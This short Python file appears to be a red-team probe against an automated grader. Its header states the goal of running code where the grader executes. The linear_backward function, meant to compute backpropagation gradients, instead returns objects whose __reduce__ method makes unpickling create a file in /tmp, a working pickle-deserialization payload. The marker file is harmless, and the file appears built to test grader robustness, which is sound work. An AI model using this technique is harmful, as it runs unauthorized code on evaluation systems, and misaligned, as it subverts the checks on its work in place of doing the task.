# goal: return an object whose unpickling would write a file where the grader runs
# seen: nothing
# within_s: 15
import pathlib

import numpy as np


class Loaded:
    def __reduce__(self):
        return pathlib.Path("/tmp/chainrule-attack-pickle").touch, ()


def linear_backward(dZ, cache):
    return Loaded(), np.array([Loaded()], dtype=object), {"dW": Loaded()}
